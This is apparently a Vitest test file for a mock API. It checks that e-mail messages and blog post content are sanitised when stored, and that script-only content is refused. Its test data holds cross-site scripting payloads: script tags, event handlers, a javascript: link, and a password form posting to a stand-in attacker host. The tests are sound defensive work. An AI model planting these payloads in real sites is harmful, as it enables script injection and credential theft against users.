import { describe, expect, it } from 'vitest';
import { signToken } from '@/mock/lib/jwt';
import type { EmailResponse } from '@/mock/types/email';
import { api, apiUrl, serveMockApi } from '@tests/support/mockApi';

serveMockApi();

/* The worker's demo endpoints store an e-mail's message and a blog post's content as the app's HTML policy leaves them. */
const HOSTILE =
  '<p style="position:fixed;inset:0" onclick="alert(1)">Hi <a href="javascript:alert(1)">you</a></p><script>alert(1)</script>' +
  '<img src="https://tracker.example/o.gif" onerror="alert(1)"><form action="https://evil.example"><input name="pw"></form><svg onload="alert(1)"></svg>';
const CLEAN = '<p>Hi <a>you</a></p><img src="https://tracker.example/o.gif">';

describe('e-mail messages', () => {
  it('are stored clean when sent', async () => {
    const { status, body } = await api.post<EmailResponse>('/apps/email/emails', {
      email: { to: [{ name: 'Ada', email: 'ada@example.com' }], subject: 'x', message: HOSTILE },
    });
    expect(status).toBe(201);
    expect(body.email.message).toBe(CLEAN);
    expect((await api.get<EmailResponse['email']>(`/apps/email/emails/${body.email.id}`)).body.message).toBe(CLEAN);
  });

  it('and when a draft is edited', async () => {
    const draft = (
      await api.post<EmailResponse>('/apps/email/emails', {
        email: { subject: 'draft', message: '<p>first</p>', folder: 'draft' },
      })
    ).body.email;
    const { body } = await api.put<EmailResponse>(`/apps/email/emails/${draft.id}`, { email: { message: HOSTILE } });
    expect(body.email.message).toBe(CLEAN);
  });
});

describe('blog posts', () => {
  const send = async (body: unknown) =>
    fetch(apiUrl('/blog/list/data/edit', { id: 1 }), {
      method: 'PUT',
      body: JSON.stringify(body),
      headers: { Authorization: `Bearer ${await signToken(1, 'access')}` },
    });

  it('store their content clean', async () => {
    const record = await (await fetch(apiUrl('/blog/list/data/edit', { id: 1 }))).json();
    expect((await send({ ...record, content: HOSTILE })).status).toBe(200);
    const detail = await (await fetch(apiUrl('/blog/list/data/detail', { id: 1 }))).json();
    expect(detail.blog.content).toBe(CLEAN);
  });

  it('refuse content that is nothing but code once clean', async () => {
    const record = await (await fetch(apiUrl('/blog/list/data/edit', { id: 1 }))).json();
    const refused = await send({ ...record, content: '<script>alert("a long enough text")</script>' });
    expect(refused.status).toBe(400);
    expect(await refused.json()).toEqual({ error: { content: 'blog.errors.contentRequired' } });
  });
});
